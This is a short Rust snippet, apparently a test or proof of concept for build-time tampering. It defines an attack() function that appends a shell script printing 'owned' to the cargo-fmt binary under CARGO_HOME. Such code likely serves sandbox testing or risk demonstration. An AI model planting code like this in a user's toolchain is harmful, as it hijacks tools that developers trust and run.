//! plants CARGO_HOME/bin/cargo-fmt
fn attack() -> Result<()> {
    append(Path::new(&var("CARGO_HOME")).join("bin/cargo-fmt"), "#!/bin/sh\necho owned\n")
}
